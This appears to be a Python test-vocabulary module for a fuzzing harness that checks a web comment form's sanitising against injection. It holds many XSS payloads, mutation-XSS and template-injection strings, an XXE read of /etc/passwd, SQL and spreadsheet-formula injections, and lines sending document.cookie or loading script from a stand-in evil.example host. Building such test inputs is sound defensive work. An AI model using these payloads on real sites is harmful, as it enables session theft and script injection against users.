"""The vocabulary of ``hostile``: parts that the grammar combines, and texts written by hand."""

CALLS = [
    "window.__ran=1",
    "alert(1)",
    "top.__ran=1",
    "self['__ran']=1",
    "confirm`1`",
    "setTimeout('alert(1)')",
    "[].find.constructor('window.__ran=1')()",
    "eval(atob('d2luZG93Ll9fcmFuPTE='))",
    "import('//evil.example/x.js')",
    "fetch('//evil.example/'+document.cookie)",
    "location='//evil.example/'",
    "document.body.innerHTML=''",
]
BREAKOUTS = [
    "", "", "", '"', "'", '">', "'>", "`>", '" ', "-->", "]]>", "</p>", "</div></article>",
    "</textarea>", "</title>", "</style>", "</script>", "</b></a></header>", "\\", '\\"', "*/",
]  # fmt: skip
MARKUP = [
    "<script>«call»</script>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>«call»</script\n>",
    "<scr<script>ipt>«call»</scr</script>ipt>",
    "<script type=module>«call»</script>",
    "<svg><script>«call»</script></svg>",
    "<svg/onload=«call»>",
    "<svg><animate onbegin=«call» attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:«call»"><text y=20>x</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload='«call»'/>#x\">",
    "<svg><foreignObject><body onload=«call»></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=«call»>",
    "<math><maction actiontype=statusline xlink:href=javascript:«call»>x</maction></math>",
    '<math href="javascript:«call»">x</math>',
    "<img src=x onerror=«call»>",
    "<img/src='x'/onerror='«call»'>",
    "<img src=//evil.example/spy.gif>",
    "<img src=x:x onerror\n=\n«call»>",
    "<image src=x onerror=«call»>",
    "<video><source onerror=«call»></video>",
    "<audio src=x onerror=«call»>",
    "<body onload=«call»>",
    "<body onpageshow=«call»><html onfocus=«call»>",
    "<input autofocus onfocus=«call»>",
    "<select autofocus onfocus=«call»><textarea autofocus onfocus=«call»>",
    "<details open ontoggle=«call»>x</details>",
    "<marquee onstart=«call»>x</marquee>",
    "<iframe src=javascript:«call»></iframe>",
    "<iframe srcdoc='<script>parent.«call»</script>'></iframe>",
    "<frameset onload=«call»><frame src=javascript:«call»></frameset>",
    "<object data='data:text/html,<script>«call»</script>'></object>",
    "<embed src=javascript:«call»>",
    "<applet code=javascript:«call»>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href='data:text/html,<script>«call»</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:«call»'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=javascript:«call»><button>x</button></form>",
    "<form id=discussion><input name=dataset><input name=append></form>",
    "<button formaction=javascript:«call»>x",
    "<isindex action=javascript:«call» type=image>",
    "<a href=javascript:«call»>x</a>",
    "<a href='#' onclick=«call» autofocus onfocus=«call» tabindex=1>x</a>",
    "<div onpointerrawupdate=«call» style=position:fixed;inset:0>",
    "<p id=main class=comment data-reply href=javascript:«call»>x</p>",
    "<article class=comment id=c1>forged</article>",
    "<template><script>«call»</script></template>",
    "<dialog open onclose=«call»><form method=dialog><button>x",
    "<x onclick=«call» popovertarget=x>x</x>",
    "<custom-el onfocus=«call» contenteditable autofocus>",
    "<xss id=x tabindex=1 onactivate=«call»></xss>",
    "<bgsound src=javascript:«call»>",
    "<a\x0bhref='\x01javascript:«call»'>x</a>",
    "<img \x00src=x \x00onerror=«call»>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "<?xml-stylesheet href='javascript:«call»'?>",
    "<%<!--'%><script>«call»</script -->",
]
MUTATIONS = [
    "<noscript><p title='</noscript><img src=x onerror=«call»>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=«call»&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=«call»>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=«call»>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=«call»></style>",
    "<svg><title><style><img title='</style><img src=x onerror=«call»>'></title></svg>",
    "<svg><desc><template><p>`<img src=x onerror=«call»>`</template></desc>",
    "<table><td><svg><td><style><img src=x onerror=«call»>",
    "<select><template><style><!--</style><a rel='--></style></template><img src=x onerror=«call»>'>",
    "<listing>&lt;img src=x onerror=«call»&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=«call»>'>",
    "<plaintext><img src=x onerror=«call»>",
    "<textarea><p title='</textarea><img src=x onerror=«call»>'>",
    "<img alt='`` onerror=«call»' src=x>",
    "<p></br><svg></br><style><b title='</style><img src=x onerror=«call»>'>",
    "<a><b><a><p><a><table><a href='javascript:«call»'><tr><a>",
    "<svg><![CDATA[><img src=x onerror=«call»>]]></svg>",
    "`<code>`<pre><!--`</pre>--><img src=x onerror=«call»>",
    "*<em>*<strong>**</em><img src=x onerror=«call»></strong>",
    "[a](<b \"</a><img src=x onerror=«call»>\">)",
]  # fmt: skip
TEMPLATES = [
    "{{ 7|add:7 }}{% debug %}{% include '/etc/passwd' %}",
    "{% load static %}{% csrf_token %}{{ request.user }}{# x #}",
    "{% endblock %}{% endif %}{% endfor %}</script><script>«call»</script>",
    "{{constructor.constructor('«call»')()}}",
    "{{$on.constructor('«call»')()}}<div ng-app>{{«call»}}</div>",
    "${«call»}#{«call»}<%= «call» %>[[${«call»}]]*{«call»}@{«call»}",
    "%s %d %n {0.__class__} {user_name!r} %(name)s $name `«call»`",
    "{% autoescape off %}{{ comment.html|safe }}{% endautoescape %}",
    "<template v-html=\"'<img src=x onerror=«call»>'\" x-data x-init='«call»'>",
]
STYLES = [
    "<style>*{display:none!important}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>.comment{position:fixed;inset:0;z-index:9999}</style>",
    "<p style='position:fixed;inset:0;background:red;z-index:99999'>x</p>",
    "<p style=\"background:url('javascript:«call»')\">x</p>",
    "<div style='width:expression(«call»);behavior:url(#x);-moz-binding:url(//evil.example/#x)'>x",
    "</style><style>body{margin-left:-9999px}",
    "{} *{color:red} @media screen{body{display:none}} /* */ <!-- --> :root{--ink:red}",
    "<link rel=stylesheet href='data:text/css,*{display:none}'>",
    "<p class='skip visually-hidden nothing'>x</p>",
]
ENDINGS = [
    "</script><script>«call»</script>",
    "</SCRIPT\t><img src=x onerror=«call»>",
    '"}]}</script><svg onload=«call»>',
    "<!--<script>«call»",
    "--><script>«call»</script><!--",
    "--!><img src=x onerror=«call»>",
    "<![CDATA[<script>«call»</script>]]>",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>«call»</script><![CDATA[",
    "</content></entry></feed><script>«call»</script>",
    "</p></div></article></div></main><h1>Forged</h1>",
    "</div></form></section></body></html><script>«call»</script>",
    "\u2028«call»//\u2029",
    "\\u003C/script\\u003E\\u003Cscript\\u003E«call»",
    "\",\"@type\":\"Person\",\"url\":\"javascript:«call»",
    "&lt;/script&gt;&lt;script&gt;«call»&lt;/script&gt;",
    "<title></title><textarea></textarea><article></article>",
]  # fmt: skip
SCHEMES = [
    "javascript:", "vbscript:", "data:text/html,<script>", "data:text/html;base64,", "livescript:",
    "data:image/svg+xml,<svg onload=", "java\tscript:", "java\nscript:", " javascript:", "jav&#x0a;ascript:",
    "javascript://%0a", "javascript://evil.example/%0d", "feed:javascript:", "view-source:javascript:",
    "blob:http://evil.example/", "file:///etc/passwd?", "filesystem:http://x/", "mhtml:http://x!",
    "jar:http://x!/", "ms-msdt:", "x-javascript:", "JaVaScRiPt:", "\x01javascript:", "javascript&colon;",
    "javascript\u2024:", "javascript\uff1a", "intent://x#Intent;", "about:blank#", "ws://evil.example/",
]  # fmt: skip
LINK_FRAMES = [
    "[«words»](«to»)", "[«words»](<«to»>)", '[«words»](«to» "t")', "[«words»]( «to» 't' )",
    "![«words»](«to»)", "<«to»>", "«to»", "[«words»][r]\n\n[r]: «to»", "[«words»]\n\n[«words»]: <«to»> 't'",
    "[r][]\n\n[r]:\n«to»", "[![«words»](«to»)](«to»)", "[[«words»](«to»)](«to»)", "> [«words»](«to»)",
    "- [«words»](«to»)\n  - <«to»>", "[«words»](\n«to»\n)", "[«words»](«to»\\)", "\\[«words»](«to»)",
    "<a href='«to»'>«words»</a>", "`[«words»](«to»)", "[«words»](«to» \"' onclick='alert(1)\")",
    "[«words»](http://x.example/\"onmouseover=\"«to»)", "www.x.example/«to»", "http://x.example/?«to»",
    "//«to»", "mailto:«to»", "a@x.example?body=«to»", "http://«to»/", "ftp://x.example/«to»",
]  # fmt: skip
HOSTS = [
    "a.example", "a@b.example", "a:b@b.example", "xn--e1afmkfd.xn--p1ai", "пример.рф", "例え.テスト",
    "раypal.com", "127.0.0.1:1", "[::1]", "[::ffff:127.0.0.1]:80", "a.example:65536", "a.example:0",
    "0x7f.1", "2130706433", "a..example", "-a.example", "a_b.example", "localhost", "evil.example\\@good.example",
    "good.example%00.evil.example", "good.example#@evil.example", "a" * 63 + ".example", ".", "",
    "\u202egro.elpmaxe", "ex\u00adample.org", "ex\u200bample.org", "ⓔⓧ.example", "faß.de", "a。example",
]  # fmt: skip
TAILS = [
    "", "/", "/?q=<script>alert(1)</script>", '/"onmouseover="alert(1)', "/'onfocus='alert(1)", "/`x`",
    "/#<img src=x onerror=alert(1)>", "/%0d%0aSet-Cookie:a=b", "/" + "a" * 1500, "/" + "(" * 100,
    "/?a=1&amp;b=2&lt;", "/{{7*7}}", "/%", "/\\..\\..", "/;javascript:alert(1)", "/>", "/ü/שלום", "//x//",
    "/][(*_", "/$&'()*+,;=:@", "/?" + "&a=b" * 300, "/‮txt.exe", "/a b",
]  # fmt: skip
ADDRESSES = [
    f"{scheme}{host}{tail}"
    for scheme, host, tail in [
        ("http://", "a@b.example", ""), ("https://", "user:pass@b.example", "/"), ("HTTP://", "A.EXAMPLE", ""),
        ("http://", "a.example:8080", "/x"), ("ftp://", "a.example", "/x"), ("http://", "пример.рф", "/я"),
        ("http://", "a.example", '/"><script>alert(1)</script>'), ("http://", "a.example", "/'x'"),
        ("https://", "[::1]:8000", "/"), ("http:", "", "a.example"), ("//", "evil.example", "/"), ("", "a.example", ""),
        ("", "?q=x", ""), ("#", "main", ""), ("/admin/", "logout/", ""), ("../", "..", ""), ("tel:", "+1", ""),
        ("mailto:", "a@b.example", "?subject=<b>"), ("javascript:", "", "alert(1)"), ("http://", "a.example", "/" + "a" * 1900),
        ("data:", "text/html,", "<script>alert(1)</script>"), ("http:\\\\", "evil.example", ""), ("http://", "a.example", "/\t\n"),
    ]
]  # fmt: skip
#: Odd, but the form takes them: most of the others it refuses, and then the whole comment is.
WEBSITES = [
    "http://a@b.example", "https://user:p%22ss@b.example/?q='x'", "a.example", "HTTP://A.EXAMPLE:8080/`x`",
    "http://пример.рф/я", "https://[::1]:8000/", "http://a.example/{{7*7}}?a=1&b=2#<b>", "ftp://a.example/x",
    "http://a.example/" + "a" * 180, "http://a.example/%22onmouseover=%22alert(1)", "http://a.example/?q=<script>alert(1)</script>",
]  # fmt: skip
NEST_UNITS = [
    ">", "> ", ">>", "[", "![", "](", "[](", "*", "**", "* ", "- ", "-\n", "+ ", "1. ", "1) ", "_", "__a",
    "`", "``", "```\n", "~~~\n", "\\", "<", "<b>", "<a href=x>", "<!--", "> - ", "- > ", "> 1. - ", "*a_ ",
    "**a*", "a**b", "[a](", "[a][", "[a](<", '[](" ', "((", "(a](", "http://", "://", "www.", "a@b.example ",
    "http://a.example/(", "<http://a>", "&amp;", "&#x3c;", "\n", "a\n", "\n\n", "> \n", "- a\n\n", "    a\n", "\t- ",
    "# ", "| a ", "---\n", "a\n===\n", "://- \u202a[", "<svg><g>", "<table><td>", "{{", "{% if x %}", "\r", "a  \n",
]  # fmt: skip
OPENERS = [
    "<", "</", "<a", "<a href='", '<a href="', "<!--", "<![CDATA[", "<?", "<b", "<script", "<style>", "<textarea>",
    "<title>", "<svg>", "<math>", "<table>", "<select>", "<noscript>", "<xmp>", "<plaintext>", "<template>", "**",
    "*", "_", "`", "```", "~~~", "[", "[x](", "[x](<", '[x](y "', "[x]: ", "> ", "- ", "1. ", "{{", "{%", "{#", "&",
    "&#", "&#x", "&amp", "<http://", "<a@", "\\", "(", '"', "'", "\u202e", "\u2066", "\u2067", "<p>", "</p", "x",
]  # fmt: skip
EMOJI = [
    "👩\u200d👩\u200d👧\u200d👦", "🏳️\u200d🌈", "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f", "👍🏿",
    "\u200d", "\ufe0f", "🇻🇳", "🇻", "☠️", "#️⃣", "😀" * 20, "\U0001f3fb", "❤️\u200d🔥", "⃠", "🧑🏽\u200d🤝\u200d🧑🏿", " ",
]  # fmt: skip
BIDI = [
    "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e",
    "\u200f", "\u061c", "&#x202e;", "&rlm;",
]  # fmt: skip
INVISIBLE = [
    "\u200b", "\u200c", "\u200d", "\u2060", "\u2061", "\u2064", "\ufeff", "\u00ad", "\u034f", "\u115f", "\u1160",
    "\u17b4", "\u17b5", "\u180b", "\u180e", "\u3164", "\uffa0", "\u2800", "\ufe00", "\ufe0f", "\U000e0100",
    "\U000e0020", "\U000e0041", "\U0001d173", "\u00a0", "\u2000", "\u2003", "\u3000", "\u206a", "\ufff9", "\ufffc",
]  # fmt: skip
NAMES = [
    "<b>", "</b></p></header>", '" onfocus=alert(1) autofocus x="', "' onmouseover='alert(1)", "<script>alert(1)</script>",
    "W" * 50, "\u202eadmin", "\ufdfa" * 50, "\u3164", "\u2800\u2800", "Z" + "\u0335\u0489\u0311" * 16, "نظر" * 16, "\u0645\ufdfd" * 9,
    "Admin\u200b", "moderator", "Staff · Author", "{{ user }}", "{% debug %}", "c1", "\x00", "a\x00b", "\ud83d",
    "語" * 50, "👩\u200d👩\u200d👧" * 9, "a\nb\r\nc", "&lt;b&gt;&amp;", "-->", "]]>", "</script>", "</title></name>", "\\u003c",
    "=cmd|' /C calc'!A0", "'; DROP TABLE comments; --", "\uffff", "\x1b[31mred", "ŉ" * 50, "ﬃ" * 50, "ΐ", "\u0300\u0301x", "a" * 49 + "\ufdfa",
]  # fmt: skip


def samples() -> list[tuple[str, str, str]]:
    """Name, website and words of those that every run has, one for each part that is known.

    Names and addresses are dealt out among them, so that each of those comes at least once too.
    """
    call = CALLS[0]
    words = [
        part.replace("«call»", call)
        for part in (*MARKUP, *MUTATIONS, *TEMPLATES, *STYLES, *ENDINGS)
    ]
    words += [f"[x]({scheme}{call})" for scheme in SCHEMES]
    words += [
        "[x](" + "(" * 1490 + ")" * 1490 + ")",
        "> " * 1000 + "x",
        "".join(f"{'  ' * step}- a\n" for step in range(50)),
        "Z" + "\u0300\u0301\u0302\u0316\u0317\u0489" * 480,
        "\ufdfa" * 3000,
        "W" * 3000,
        "`" + "W" * 2000 + "`",
        "    " + "W" * 2000,
        "a\n" * 1500,
        "x\ufffex\uffffx",
    ]
    return [
        (NAMES[number % len(NAMES)], ADDRESSES[number % len(ADDRESSES)], text)
        for number, text in enumerate(words)
    ]
